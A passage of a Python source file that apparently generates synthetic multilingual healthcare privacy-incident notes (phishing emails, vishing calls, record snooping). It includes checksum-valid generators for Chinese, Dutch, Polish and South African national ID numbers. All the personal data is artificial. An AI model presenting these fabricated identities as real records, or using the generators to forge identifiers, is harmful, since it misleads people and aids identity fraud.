    ("ie-ward-email-remote-support", s_ie_email, "IE"), ("in-tpa-preauth-form", s_in_tpa, "IN"),
    ("in-opd-refund-scam-note", s_in_scam, "IN"), ("ng-hmo-authorisation-email", s_ng_hmo, "NG"),
    ("ng-ward-handover-book", s_ng_handover, "NG"), ("ph-philhealth-cf1", s_ph_cf1, "PH"),
    ("ph-viber-group-export", s_ph_viber, "PH"), ("za-medical-aid-preauth", s_za_preauth, "ZA"),
    ("sg-pdpc-notification", s_sg_pdpc, "SG"),
]


# ---------------------------------------------------------------------------------------------
# incident notes in nineteen languages no earlier corpus used


def _cn_id(prefix):
    body = prefix + f"{R.randint(1950, 2004)}{R.randint(1, 12):02d}{R.randint(1, 28):02d}" + digits(3)
    w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    s = sum(int(a) * b for a, b in zip(body, w))
    return body + "10X98765432"[s % 11]


def _bsn():
    while True:
        d = [R.randrange(10) for _ in range(9)]
        if d[0] == 0:
            continue
        s = sum(v * (9 - i) for i, v in enumerate(d[:8])) - d[8]
        if s % 11 == 0:
            return "".join(map(str, d))


def _pesel():
    d = [R.randrange(10) for _ in range(10)]
    w = [1, 3, 7, 9, 1, 3, 7, 9, 1, 3]
    s = sum(a * b for a, b in zip(d, w))
    return "".join(map(str, d)) + str((10 - s % 10) % 10)


def _za_id():
    body = f"{R.randint(50, 99)}{R.randint(1, 12):02d}{R.randint(1, 28):02d}{digits(4)}08"
    return body + luhn_digit(body + "0")


LANGS = [
    dict(code="hmn", locale="hmn_US", name="Hmong",
         given=["Tou", "Mai", "Pao", "Yer", "Xee", "Chue", "Nou", "Kou", "Houa", "Neng", "Txia", "Bao"],
         sur=["Vang", "Xiong", "Yang", "Thao", "Moua", "Lor", "Hang", "Vue", "Khang", "Chang"],
         cities=["Saint Paul", "Maplewood", "Brooklyn Park", "Fresno", "Merced", "Sheboygan"],
         order="gs", date=mdy, org=lambda c: f"{c} Family Health Clinic", tld="org",
         phone=lambda: f"({ch(['651', '763', '559', '920'])}) {R.randint(200, 989)}-{digits(4)}",
         natid=lambda: (f"{R.randint(101, 665)}-{digits(2)}-{digits(4)}", "SSN"),
         zip=lambda: f"{ch(['551', '554', '937', '530'])}{digits(2)}",
         street=lambda: f"{R.randint(100, 2999)} {ch(['Arcade St', 'Payne Ave', 'Rice St', 'University Ave W', 'Maryland Ave E'])}",
         labels=["Lub npe", "Hnub yug", "Tus lej SSN", "Xov tooj", "Chaw nyob"],
         subject="Teeb meem kev ruaj ntseg",
         k1="Muaj ib tsab email los ntawm {AE} siv lub npe ntawm tus neeg mob {P} (MRN {H}). Nws thov kom xa cov ntaub ntawv kho mob thiab muab txuas {U}.",
         k2="Tus neeg mob {P} (yug {D}, xov tooj {PH}) tau txais ib qho kev hu los ntawm {AP}. Tus neeg hu hais tias nws yog {ORG} chav nqi thiab thov nws tus lej {N}.",
         k3="Tus neeg ua haujlwm {S} (tus lej nkag {UN}) tau qhib cov ntaub ntawv ntawm nws tus neeg zej zog {P}, nyob {A}, {C}, tsis muaj laj thawj ua haujlwm."),
    dict(code="qu", locale="qu_PE", name="Quechua",
         given=["Wilber", "Nilda", "Edwin", "Yesenia", "Teófilo", "Fortunata", "Hilario", "Maruja", "Percy", "Saturnina"],
         sur=["Mamani", "Quispe", "Huamán", "Condori", "Ccahuana", "Huillca", "Apaza", "Ttito", "Choque", "Puma"],
         cities=["Cusco", "Ayacucho", "Puno", "Abancay", "Huancavelica", "Andahuaylas", "Sicuani"],
         order="gss", date=dmy, org=lambda c: f"Hospital Regional de {c}", tld="gob.pe",
         phone=lambda: ch([f"9{digits(2)} {digits(3)} {digits(3)}", f"+51 9{digits(2)} {digits(3)} {digits(3)}"]),
         natid=lambda: (digits(8), "SSN"), zip=lambda: f"{R.randint(3, 9):02d}{digits(3)}",
         street=lambda: f"Jr. {ch(['Tupac Amaru', 'Pachacútec', 'Ayacucho', 'Manco Cápac', 'Garcilaso'])} {R.randint(100, 999)}",
         labels=["Suti", "Paqarisqa p'unchaw", "DNI", "Telefono", "Tiyana"],
         subject="Willakuy: yanqa correo",
         k1="{AE} nisqamanta huk correo chayamurqa, unquq {P} (HC {H}) sutinpi. Hampi qillqakunata mañakun, kay t'inkitataq apachimun: {U}.",
         k2="Unquq {P} ({D} paqarisqa, telefonon {PH}) {AP} nisqamanta waqyachisqa karqa. Waqyaqqa {ORG} qullqi wasimanta kani nispa DNI {N} yupayta mañakurqa.",
         k3="Llamkaq {S} (yaykuna suti {UN}) wasimasinpa {P} hampi qillqanta kicharqa, {A}, {C} nisqapi tiyaq, mana llamkay rayku."),
    dict(code="om", locale="om_ET", name="Oromo",
         given=["Chaltu", "Gemechu", "Lalise", "Tolossa", "Obse", "Abdi", "Bontu", "Hawi", "Kenenisa", "Galane"],
         sur=["Bekele", "Tadesse", "Gudina", "Dhaba", "Fayisa", "Negasa", "Urgessa", "Tolera"],
         cities=["Adaamaa", "Jimmaa", "Naqamtee", "Amboo", "Shashamannee", "Bishooftuu", "Asallaa"],
         order="gs", date=dmy, org=lambda c: f"Hospitaala Riferaalaa {c}", tld="et",
         phone=lambda: ch([f"09{digits(2)} {digits(3)} {digits(3)}", f"+251 9{digits(2)} {digits(3)} {digits(3)}"]),
         natid=lambda: (f"{digits(4)} {digits(4)} {digits(4)}", "SSN"), zip=None,
         street=lambda: f"Ganda {R.randint(1, 20):02d}, Mana Lakk. {R.randint(100, 999)}",
         labels=["Maqaa", "Guyyaa dhalootaa", "Lakk. Fayda", "Bilbila", "Teessoo"],
         subject="Gabaasa balaa nageenyaa",
         k1="Imeeliin tokko {AE} irraa maqaa dhukkubsataa {P} (MRN {H}) fayyadamuun dhufe. Galmee yaalaa gaafate, liinkii {U} erge.",
         k2="Dhukkubsataan {P} (dhaloota {D}, bilbila {PH}) bilbila {AP} irraa argate. Bilbilaan sun kutaa kaffaltii {ORG} irraa akka ta'e himee lakkoofsa Fayda {N} gaafate.",
         k3="Hojjetaan {S} (maqaa seensaa {UN}) galmee ollaa isaa {P}, {A}, {C} jiraatu, sababa hojii malee bane."),
    dict(code="ti", locale="ti_ER", name="Tigrinya",
         given=["ዳዊት", "ሰላም", "ሚካኤል", "ሄለን", "ዮናስ", "ሳባ", "ተስፋይ", "ሉዋም", "ፍሊሞን", "ኣዳነት"],
         sur=["ገብረመድህን", "ተኽለ", "ሃብተ", "ወልደሚካኤል", "ብርሃነ", "ኪዳነ", "ጸጋይ", "ኣብርሃ"],
         staff=[("Dawit", "Tekle"), ("Senait", "Habte"), ("Yonas", "Kidane"), ("Luwam", "Berhane"), ("Filmon", "Tsegai")],
         cities=["ኣስመራ", "ምጽዋዕ", "ከረን", "መንደፈራ", "ዓዲ ቐይሕ", "ባረንቱ"],
         order="gs", date=dmy, org=lambda c: f"ሆስፒታል {c}", tld="er", domain_code="asmhosp",
         phone=lambda: ch([f"07 {digits(6)}", f"+291 7 {digits(3)} {digits(3)}"]),
         natid=lambda: (digits(7), "SSN"), zip=None,
         street=lambda: f"ጎደና {R.randint(1, 200)}-{R.randint(1, 99)}",
         labels=["ስም", "ዕለት ልደት", "ቁጽሪ መንነት", "ቴሌፎን", "ኣድራሻ"],
         subject="ጸብጻብ ናይ ድሕንነት ፍጻመ",
         k1="ካብ {AE} ብስም ሕሙም {P} (MRN {H}) ኢመይል መጺኡ። ናይ ሕክምና መዛግብቲ ይሓትት፡ ሊንክ {U} ልኢኹ።",
         k2="ሕሙም {P} (ዕለት ልደት {D}፡ ቴሌፎን {PH}) ካብ {AP} ተደዊሉሉ። ደዋሊ ካብ ክፍሊ ክፍሊት {ORG} ኢየ ኢሉ ቁጽሪ መንነት {N} ሓቲቱ።",
         k3="ሰራሕተኛ {S} (ስም ተጠቃሚ {UN}) መዝገብ ጎረቤቱ {P}፡ ኣብ {A}፡ {C} ዝነብር፡ ብዘይ ስራሕ ምኽንያት ከፊቱ።"),
    dict(code="ug", locale="ug_CN", name="Uyghur",
         given=["ئەخمەت", "گۈلنار", "مەمەتجان", "پاتىگۈل", "ئابدۇرېھىم", "مەرھابا", "نۇرمۇھەممەت", "زۆھرە"],
         sur=["تۇرسۇن", "ئابلىز", "قادىر", "ھوشۇر", "ئىمىن", "ياسىن", "مەمتىمىن"],
         staff=[("Ekhmet", "Tursun"), ("Gulnar", "Qadir"), ("Memetjan", "Hoshur"), ("Merhaba", "Imin")],
         cities=["ئۈرۈمچى", "قەشقەر", "غۇلجا", "خوتەن", "ئاقسۇ", "تۇرپان"],
         order="gs", date=lambda d: d.isoformat(), org=lambda c: f"{c} شەھەرلىك دوختۇرخانىسى", tld="cn", domain_code="xjhosp",
         phone=lambda: ch([f"13{digits(1)} {digits(4)} {digits(4)}", f"+86 18{digits(1)} {digits(4)} {digits(4)}"]),
         natid=lambda: (_cn_id("6501"), "SSN"), zip=lambda: f"8{R.randint(30, 48)}000",
         street=lambda: f"{ch(['يەنئەن يولى', 'ئازادلىق يولى', 'خېپىڭ يولى', 'دۆلەتباغ يولى'])} {R.randint(1, 300)}-نومۇر",
         labels=["ئىسمى", "تۇغۇلغان ۋاقتى", "كىملىك نومۇرى", "تېلېفون", "ئادرېس"],
         subject="بىخەتەرلىك ۋەقەسى دوكلاتى",
         k1="{AE} دىن بىمار {P} (MRN {H}) نىڭ نامىدا بىر ئېلخەت كەلدى. ئۇ داۋالاش خاتىرىسىنى سوراپ، {U} ئۇلانمىسىنى ئەۋەتتى.",
         k2="بىمار {P} (تۇغۇلغان ۋاقتى {D}، تېلېفونى {PH}) {AP} دىن تېلېفون تاپشۇرۇۋالدى. تېلېفون قىلغۇچى ئۆزىنى {ORG} ھېسابات بۆلۈمىدىن دەپ، كىملىك نومۇرى {N} نى سورىدى.",
         k3="خىزمەتچى {S} (ئىشلەتكۈچى نامى {UN}) قوشنىسى {P} نىڭ ({A}، {C}) خاتىرىسىنى خىزمەت سەۋەبى يوق ئاچتى."),
    dict(code="sd", locale="sd_PK", name="Sindhi",
         given=["علي", "زينب", "عمران", "سسئي", "نديم", "ماروي", "شاهد", "رخسانه"],
         sur=["سومرو", "ميمڻ", "ٻگهيو", "جتوئي", "شيخ", "ڀٽو", "کوسو", "پيرزادو"],
         staff=[("Imran", "Soomro"), ("Marvi", "Memon"), ("Nadeem", "Jatoi"), ("Rukhsana", "Bhutto")],
         cities=["حيدرآباد", "سکر", "لاڙڪاڻو", "ميرپورخاص", "نوابشاهه", "ٺٽو"],
         order="gs", date=dmy, org=lambda c: f"{c} سول اسپتال", tld="pk", domain_code="sindhcivil",
         phone=lambda: ch([f"030{digits(1)}-{digits(7)}", f"+92 3{digits(2)} {digits(7)}"]),
         natid=lambda: (f"4{digits(4)}-{digits(7)}-{R.randint(1, 9)}", "SSN"), zip=lambda: f"7{digits(4)}",
         street=lambda: f"گهر نمبر {R.randint(1, 400)}، {ch(['قاسم آباد', 'لطيف آباد', 'هيرآباد', 'ڪينٽ'])}",
         labels=["نالو", "ڄمڻ جي تاريخ", "شناختي ڪارڊ", "فون", "پتو"],
         subject="سيڪيورٽي واقعي جي رپورٽ",
         k1="{AE} تان مريض {P} (MRN {H}) جي نالي سان هڪ اي ميل آئي. ان ۾ علاج جو رڪارڊ گهريو ويو ۽ لنڪ {U} موڪلي وئي.",
         k2="مريض {P} (ڄمڻ جي تاريخ {D}، فون {PH}) کي {AP} تان ڪال آئي. ڪال ڪندڙ پاڻ کي {ORG} جي بلنگ کاتي مان ٻڌايو ۽ شناختي ڪارڊ نمبر {N} گهريو.",
         k3="عملي جي ميمبر {S} (يوزر نالو {UN}) پنهنجي پاڙيسري {P} جو رڪارڊ کوليو، جيڪو {A}، {C} ۾ رهي ٿو، بنا ڪنهن ڪم جي سبب."),
    dict(code="bo", locale="bo_CN", name="Tibetan",
         given=["བཀྲ་ཤིས་", "སྒྲོལ་མ་", "ཚེ་རིང་", "པདྨ་", "ནོར་བུ་", "བསོད་ནམས་", "ལྷ་མོ་", "རྡོ་རྗེ་"],
         sur=["ཡང་ཆེན", "དབང་འདུས", "ཆོས་སྒྲོན", "རྣམ་རྒྱལ", "ཕུན་ཚོགས", "སྒྲོལ་དཀར"],
         staff=[("Tashi", "Dorje"), ("Dolma", "Tsering"), ("Norbu", "Wangdu"), ("Pema", "Yangchen")],
         cities=["ལྷ་ས", "གཞིས་ཀ་རྩེ", "ཆབ་མདོ", "ཉིང་ཁྲི", "ནག་ཆུ"],
         order="join", date=lambda d: d.isoformat(), org=lambda c: f"{c} སྨན་ཁང", tld="cn", domain_code="lhasahosp",
         phone=lambda: ch([f"139{digits(8)}", f"+86 189 {digits(4)} {digits(4)}"]),
         natid=lambda: (_cn_id("5401"), "SSN"), zip=lambda: f"85{digits(1)}000",
         street=lambda: f"{ch(['བོད་ལྗོངས་ལམ', 'ནོར་གླིང་ལམ', 'བྱང་ཐང་ལམ'])} {R.randint(1, 200)}",
         labels=["མིང", "སྐྱེས་ཚེས", "ཐོབ་ཐང་ལག་ཁྱེར", "ཁ་པར", "སྡོད་གནས"],
         subject="བདེ་འཇགས་དོན་རྐྱེན་སྙན་ཞུ",
         k1="{AE} ནས་ནད་པ་ {P} (MRN {H}) ཡི་མིང་ཐོག་གློག་འཕྲིན་ཞིག་འབྱོར། སྨན་བཅོས་ཟིན་ཐོ་བླངས་ནས་སྦྲེལ་མཐུད་ {U} བཏང་འདུག",
         k2="ནད་པ་ {P} (སྐྱེས་ཚེས་ {D}, ཁ་པར་ {PH}) ལ་ {AP} ནས་ཁ་པར་ཞིག་བཏང་། ཁོང་གིས་ {ORG} ཡི་དངུལ་རྩིས་སྡེ་ཚན་ནས་ཡིན་ཟེར་ནས་ཐོབ་ཐང་ལག་ཁྱེར་ཨང་གྲངས་ {N} འདྲི་བྱུང་།",
         k3="ལས་བྱེད་པ་ {S} (སྤྱོད་མཁན་མིང་ {UN}) ཡིས་ཁྱིམ་མཚེས་ {P} ({A}, {C}) ཡི་ཟིན་ཐོ་ལས་ཀའི་རྒྱུ་མཚན་མེད་པར་ཁ་ཕྱེ་འདུག"),
    dict(code="jv", locale="jv_ID", name="Javanese",
         given=["Bambang", "Sri", "Joko", "Endang", "Wahyu", "Siti", "Agus", "Rini", "Slamet", "Tutik"],
         sur=["Suryadi", "Wahyuni", "Santoso", "Rahayu", "Prasetyo", "Susanti", "Widodo", "Lestari", "Hartono", "Purwanti"],
         cities=["Yogyakarta", "Surakarta", "Semarang", "Magelang", "Klaten", "Purwokerto"],
         order="gs", date=lambda d: dmy(d, "-"), org=lambda c: f"RSUD {c}", tld="go.id",
         phone=lambda: ch([f"08{digits(2)}-{digits(4)}-{digits(4)}", f"+62 8{digits(2)}-{digits(4)}-{digits(4)}"]),
         natid=lambda: (f"33{digits(14)}", "SSN"), zip=lambda: f"5{digits(4)}",
         street=lambda: f"Jl. {ch(['Malioboro', 'Slamet Riyadi', 'Pandanaran', 'Kaliurang', 'Veteran'])} No. {R.randint(1, 150)}",
         labels=["Jeneng", "Tanggal lair", "NIK", "Telpon", "Alamat"],
         subject="Laporan kedadeyan keamanan",
         k1="Ana email saka {AE} nganggo jenenge pasien {P} (No. RM {H}). Dheweke nyuwun rekam medis lan ngirim pranala {U}.",
         k2="Pasien {P} (lair {D}, telpon {PH}) ditelpon saka {AP}. Sing nelpon ngaku saka bagean tagihan {ORG} lan njaluk NIK {N}.",
         k3="Pegawe {S} (jeneng pangguna {UN}) mbukak rekam medis tanggane, {P}, sing manggon ing {A}, {C}, tanpa alesan kerja."),
    dict(code="su", locale="su_ID", name="Sundanese",
         given=["Asep", "Euis", "Ujang", "Dadang", "Iis", "Cecep", "Yayah", "Entin", "Dede", "Ikah"],
         sur=["Sunarya", "Supriatna", "Hidayat", "Kurniasih", "Permana", "Nurhayati", "Sumarna", "Setiawan"],
         cities=["Bandung", "Bogor", "Tasikmalaya", "Cirebon", "Sukabumi", "Garut"],
         order="gs", date=lambda d: dmy(d, "-"), org=lambda c: f"RSUD {c}", tld="go.id",
         phone=lambda: ch([f"08{digits(2)}-{digits(4)}-{digits(4)}", f"+62 8{digits(2)} {digits(4)} {digits(4)}"]),
         natid=lambda: (f"32{digits(14)}", "SSN"), zip=lambda: f"4{digits(4)}",
         street=lambda: f"Jl. {ch(['Dago', 'Pajajaran', 'Siliwangi', 'Cihampelas', 'Otista'])} No. {R.randint(1, 150)}",
         labels=["Ngaran", "Tanggal lahir", "NIK", "Telepon", "Alamat"],
         subject="Laporan kajadian kaamanan",
         k1="Aya surélék ti {AE} maké ngaran pasién {P} (No. RM {H}). Manéhna ménta rékam médis jeung ngirim tutumbu {U}.",
         k2="Pasién {P} (lahir {D}, telepon {PH}) ditelepon ti {AP}. Nu nelepon ngaku ti bagian tagihan {ORG} sarta ménta NIK {N}.",
         k3="Pagawé {S} (ngaran pamaké {UN}) muka rékam médis tatanggana, {P}, nu cicing di {A}, {C}, tanpa alesan pagawéan."),
    dict(code="ceb", locale="ceb_PH", name="Cebuano",
         given=["Junrey", "Kimberly", "Rolando", "Mary Joy", "Jessa", "Reynante", "Cherry", "Dodong", "Rhodora", "Nonoy"],
         sur=["Cabahug", "Alcoseba", "Pepito", "Tumulak", "Ybañez", "Cañete", "Lapitan", "Dacanay"],
         cities=["Cebu City", "Mandaue", "Lapu-Lapu City", "Talisay", "Danao", "Toledo City"],
         order="gs", date=mdy, org=lambda c: f"{c} Medical Center", tld="com.ph",
         phone=lambda: ch([f"09{digits(2)} {digits(3)} {digits(4)}", f"+63 9{digits(2)} {digits(3)} {digits(4)}"]),
         natid=lambda: (f"{digits(4)}-{digits(4)}-{digits(4)}-{digits(4)}", "SSN"), zip=lambda: f"60{digits(2)}",
         street=lambda: f"{R.randint(1, 300)} {ch(['P. del Rosario St.', 'Sanciangko St.', 'Gorordo Ave.', 'A.S. Fortuna St.'])}",
         labels=["Ngalan", "Adlaw nga natawhan", "PhilSys No.", "Telepono", "Adres"],
         subject="Report sa insidente sa seguridad",
         k1="Adunay email gikan sa {AE} nga naggamit sa ngalan sa pasyente nga si {P} (MRN {H}). Nangayo kini og medical records ug nagpadala og link {U}.",
         k2="Ang pasyente nga si {P} (natawo {D}, numero {PH}) gitawagan gikan sa {AP}. Ang nitawag nag-ingon nga taga-billing siya sa {ORG} ug nangayo sa PhilSys number {N}.",
         k3="Ang empleyado nga si {S} (username {UN}) nag-abli sa rekord sa iyang silingan nga si {P}, nagpuyo sa {A}, {C}, nga walay rason sa trabaho."),
    dict(code="mg", locale="mg_MG", name="Malagasy",
         given=["Rivo", "Hanitra", "Tiana", "Fanja", "Haja", "Voahirana", "Andry", "Mialy"],
         sur=["Rakotomalala", "Randrianarisoa", "Rasoanaivo", "Andrianjafy", "Razafindrakoto", "Ravelomanana", "Rabearivelo", "Rakotondrabe"],
         cities=["Antananarivo", "Toamasina", "Antsirabe", "Fianarantsoa", "Mahajanga", "Toliara"],
         order="sg", date=dmy, org=lambda c: f"CHU {c}", tld="mg",
         phone=lambda: ch([f"03{ch('2348')} {digits(2)} {digits(3)} {digits(2)}", f"+261 3{ch('2348')} {digits(2)} {digits(3)} {digits(2)}"]),
         natid=lambda: (f"{digits(3)} {digits(3)} {digits(3)} {digits(3)}", "SSN"), zip=lambda: f"{R.randint(101, 619)}",
         street=lambda: f"Lot {ch(['II', 'IV', 'VB', 'IVG'])} {R.randint(1, 99)} {ch(['Ambohijatovo', 'Analakely', 'Isotry', 'Ankadifotsy'])}",
         labels=["Anarana", "Daty nahaterahana", "CIN", "Finday", "Adiresy"],
         subject="Tatitra momba ny fiarovana",
         k1="Nisy mailaka avy amin'ny {AE} nampiasa ny anaran'ny marary {P} (MRN {H}). Nangataka ny antontan-taratasy ara-pitsaboana izy ary nandefa rohy {U}.",
         k2="Nahazo antso avy amin'ny {AP} ny marary {P} (teraka {D}, finday {PH}). Nilaza ho avy amin'ny sampana fandoavam-bola ao {ORG} ilay niantso ary nangataka ny laharana CIN {N}.",
         k3="Nanokatra ny antontan'ny mpifanolo-bodirindrina aminy {P}, monina ao {A}, {C}, tsy nisy antony ara-asa ny mpiasa {S} (anarana mpampiasa {UN})."),
    dict(code="sn", locale="sn_ZW", name="Shona",
         given=["Tendai", "Rudo", "Farai", "Chipo", "Tatenda", "Nyasha", "Tafadzwa", "Kudzai"],
         sur=["Moyo", "Chikore", "Mutasa", "Chiwenga", "Mapfumo", "Zvobgo", "Makoni", "Nyathi"],
         cities=["Harare", "Bulawayo", "Mutare", "Gweru", "Masvingo", "Chinhoyi"],
         order="gs", date=dmy, org=lambda c: f"{c} Provincial Hospital", tld="co.zw",
         phone=lambda: ch([f"07{ch('178')} {digits(3)} {digits(4)}", f"+263 7{ch('178')} {digits(3)} {digits(4)}"]),
         natid=lambda: (f"{R.randint(1, 86):02d}-{digits(6)} {upper(1)} {R.randint(10, 99)}", "SSN"), zip=None,
         street=lambda: f"{R.randint(1, 9999)} {ch(['Samora Machel Avenue', 'Herbert Chitepo Street', 'Robert Mugabe Road', 'Leopold Takawira Street'])}",
         labels=["Zita", "Zuva rekuberekwa", "Chitupa", "Nhare", "Kero"],
         subject="Chiziviso chenjodzi yekuchengetedza",
         k1="Pane email yakabva ku {AE} ichishandisa zita remurwere {P} (MRN {H}). Yaikumbira marekodhi ekurapwa uye yakatumira link {U}.",
         k2="Murwere {P} (akaberekwa {D}, nhamba {PH}) akafonerwa kubva ku {AP}. Akafona akati anobva kubhiri re {ORG} akakumbira nhamba yechitupa {N}.",
         k3="Mushandi {S} (zita rekupinda {UN}) akavhura rekodhi yemuvakidzani wake {P}, anogara ku {A}, {C}, pasina chikonzero chebasa."),
    dict(code="xh", locale="xh_ZA", name="Xhosa",
         given=["Siyabonga", "Nosipho", "Lwandile", "Ayanda", "Zukisa", "Luthando", "Nomvuyo", "Sinazo"],
         sur=["Mgqweto", "Ndamase", "Sigcawu", "Mxenge", "Jongilanga", "Mqhayi", "Nkwinti", "Dyantyi"],
         cities=["Mthatha", "Komani", "Makhanda", "Butterworth", "Qonce", "Mdantsane"],
         order="gs", date=lambda d: d.strftime("%Y/%m/%d"), org=lambda c: f"{c} Regional Hospital", tld="co.za",
         phone=lambda: ch([f"0{ch('678')}{digits(1)} {digits(3)} {digits(4)}", f"+27 {ch('678')}{digits(1)} {digits(3)} {digits(4)}"]),
         natid=lambda: (_za_id(), "SSN"), zip=lambda: f"5{digits(3)}",
         street=lambda: f"{R.randint(1, 300)} {ch(['Sutherland Street', 'Nelson Mandela Drive', 'Owen Street', 'Madeira Street'])}",
         labels=["Igama", "Umhla wokuzalwa", "Inombolo ye-ID", "Ifowuni", "Idilesi"],
         subject="Ingxelo yesehlo sokhuseleko",
         k1="Kufike i-imeyile evela ku {AE} isebenzisa igama lesigulana {P} (MRN {H}). Icela iirekhodi zonyango kwaye ithumele ikhonkco {U}.",
         k2="Isigulana {P} (sazalwa {D}, ifowuni {PH}) sifowunelwe ku {AP}. Umfowuni uthe uvela kwicandelo lokuhlawula le {ORG} wacela inombolo ye-ID {N}.",
         k3="Umsebenzi {S} (igama lomsebenzisi {UN}) uvule irekhodi lommelwane wakhe {P}, ohlala ku {A}, {C}, ngaphandle kwesizathu somsebenzi."),
    dict(code="st", locale="st_LS", name="Sesotho",
         given=["Palesa", "Thabo", "Lineo", "Teboho", "Limpho", "Tumelo", "Nthabiseng", "Retselisitsoe"],
         sur=["Mokhothu", "Letsie", "Ramoeletsi", "Mosisili", "Lerotholi", "Thabane", "Makoae", "Sekhonyana"],
         cities=["Maseru", "Teyateyaneng", "Mafeteng", "Leribe", "Quthing", "Butha-Buthe"],
         order="gs", date=dmy, org=lambda c: f"Sepetlele sa {c}", tld="org.ls",
         phone=lambda: ch([f"5{digits(3)} {digits(4)}", f"+266 6{digits(3)} {digits(4)}"]),
         natid=lambda: (digits(12), "SSN"), zip=lambda: f"{R.randint(100, 800)}",
         street=lambda: f"{ch(['Kingsway', 'Moshoeshoe Road', 'Pioneer Road', 'Main North 1'])}, Plot {R.randint(10, 999)}",
         labels=["Lebitso", "Letsatsi la tsoalo", "Nomoro ya ID", "Mohala", "Aterese"],
         subject="Tlaleho ya ketsahalo ya tshireletso",
         k1="Ho fihlile imeile e tsoang ho {AE} e sebelisa lebitso la mokuli {P} (MRN {H}). E kopa direkoto tsa kalafo mme e rometse sehokelo {U}.",
         k2="Mokuli {P} (o hlahile {D}, nomoro {PH}) o letselitsoe ho tsoa ho {AP}. Ya letsitseng o itse o tsoa lefapheng la litefello la {ORG} mme a kopa nomoro ya boitsebiso {N}.",
         k3="Mosebeletsi {S} (lebitso la mosebedisi {UN}) o butse rekoto ya moahisani wa hae {P}, ya dulang {A}, {C}, ntle le lebaka la mosebetsi."),
    dict(code="lg", locale="lg_UG", name="Luganda",
         given=["Joseph", "Sarah", "Ronald", "Prossy", "Godfrey", "Esther", "Brian", "Juliet"],
         sur=["Ssempijja", "Nakato", "Mukasa", "Nalubega", "Kiggundu", "Nansubuga", "Lubega", "Namutebi"],
         cities=["Kampala", "Entebbe", "Masaka", "Mbarara", "Jinja", "Mukono"],
         order="SG", date=dmy, org=lambda c: f"Eddwaliro lya {c}", tld="ug",
         phone=lambda: ch([f"07{ch('0578')}{digits(1)} {digits(6)}", f"+256 7{ch('0578')}{digits(1)} {digits(6)}"]),
         natid=lambda: (f"C{ch('MF')}{digits(7)}{upper(5)}", "SSN"), zip=None,
         street=lambda: f"Plot {R.randint(1, 200)}, {ch(['Kampala Road', 'Entebbe Road', 'Bombo Road', 'Masaka Road'])}",
         labels=["Erinnya", "Olunaku lw'okuzaalibwa", "NIN", "Essimu", "Endagiriro"],
         subject="Alipoota ku bulabe bw'ebyokwerinda",
         k1="Waliwo email eyava ku {AE} ng'ekozesa erinnya ly'omulwadde {P} (MRN {H}). Yasaba ebiwandiiko by'obujjanjabi n'eweereza link {U}.",
         k2="Omulwadde {P} (yazaalibwa {D}, essimu {PH}) yakubirwa essimu okuva ku {AP}. Eyakuba yagamba nti ava mu kitongole ky'okusasula ekya {ORG} n'asaba ennamba ya NIN {N}.",
         k3="Omukozi {S} (erinnya ly'okuyingira {UN}) yaggulawo ebiwandiiko bya muliraanwa we {P}, abeera ku {A}, {C}, awatali nsonga ya mulimu."),
    dict(code="sm", locale="sm_WS", name="Samoan",
         given=["Sione", "Malia", "Tavita", "Lagi", "Fetu", "Salote", "Iosefa", "Leilani", "Ioane", "Fiapule"],
         sur=["Tuilagi", "Faleolo", "Leota", "Tupua", "Aiono", "Sapolu", "Faasavalu", "Masoe"],
         cities=["Apia", "Vaitele", "Salelologa", "Leulumoega", "Lalomanu", "Faleula"],
         order="gs", date=dmy, org=lambda c: f"Falemai o {c}", tld="ws",
         phone=lambda: ch([f"7{digits(1)} {digits(5)}", f"+685 7{digits(1)} {digits(5)}"]),
         natid=lambda: (digits(10), "SSN"), zip=None,
         street=lambda: f"{ch(['Beach Road', 'Vaea Street', 'Falealili Street', 'Fugalei Street'])}, fale {R.randint(1, 90)}",
         labels=["Igoa", "Aso fanau", "Numera ID", "Telefoni", "Tuatusi"],
         subject="Lipoti o se faalavelave saogalemu",
         k1="Na oo mai se imeli mai {AE} o faaaoga le igoa o le gasegase {P} (MRN {H}). Na talosagaina faamaumauga faafomai ma auina mai se sootaga {U}.",
         k2="Na telefoni atu {AP} i le gasegase {P} (fanau {D}, telefoni {PH}). Na fai mai le tagata na telefoni e sau mai le ofisa totogi a {ORG} ma fesili i le numera ID {N}.",
         k3="Na tatala e le tagata faigaluega {S} (igoa e ulufale ai {UN}) faamaumauga a lona tuaoi {P}, e nofo i {A}, {C}, e aunoa ma se mafuaaga faigaluega."),
    dict(code="br", locale="br_FR", name="Breton",
         given=["Yann", "Soazig", "Loeiz", "Gwenaelle", "Erwan", "Maiwenn", "Tangi", "Nolwenn"],
         sur=["Le Gall", "Kerouredan", "Tanguy", "Le Bihan", "Caradec", "Quéméner", "Le Goff", "Guivarc'h"],
         cities=["Brest", "Kemper", "Gwened", "Montroulez", "Sant-Brieg", "Lannuon"],
         order="gs", date=dmy, org=lambda c: f"Ospital {c}", tld="bzh",
         phone=lambda: ch([f"02 9{digits(1)} {digits(2)} {digits(2)} {digits(2)}", f"06 {digits(2)} {digits(2)} {digits(2)} {digits(2)}"]),
         natid=lambda: (f"{ch('12')} {digits(2)} {R.randint(1, 12):02d} {ch(['29', '56', '22'])} {digits(3)} {digits(3)} {digits(2)}", "SSN"),
         zip=lambda: f"{ch(['29', '56', '22'])}{digits(3)}",
         street=lambda: f"{R.randint(1, 90)} {ch(['straed Siam', 'hent Kastell', 'ru ar Marc’hallac’h', 'bali Sant-Kaourintin'])}",
         labels=["Anv", "Deiziad ganedigezh", "Niverenn", "Pellgomz", "Chomlec'h"],
         subject="Danevell diwall",
         k1="Ur postel a zo deuet eus {AE} gant anv ar c'hlañvour {P} (MRN {H}). Goulenn a ra an teuliadoù mezegel hag ul liamm {U} a zo bet kaset.",
         k2="Ar c'hlañvour {P} (ganet d'an {D}, pellgomz {PH}) en deus bet ur galv eus {AP}. An hini a c'halve a lavare e oa eus servij ar fakturioù e {ORG} hag en deus goulennet an niverenn surentez sokial {N}.",
         k3="Al labourer {S} (anv implijer {UN}) en deus digoret teuliad e amezeg {P}, o chom e {A}, {C}, hep abeg a-fet labour."),
    dict(code="fy", locale="fy_NL", name="West Frisian",
         given=["Sjoerd", "Geartsje", "Wytse", "Baukje", "Jelle", "Sytske", "Hessel", "Tsjitske"],
         sur=["de Vries", "Hoekstra", "Bosma", "Dijkstra", "Wijnja", "Terpstra", "Postma", "van der Meer"],
         cities=["Ljouwert", "Snits", "Drachten", "Harns", "Frjentsjer", "It Hearrenfean"],
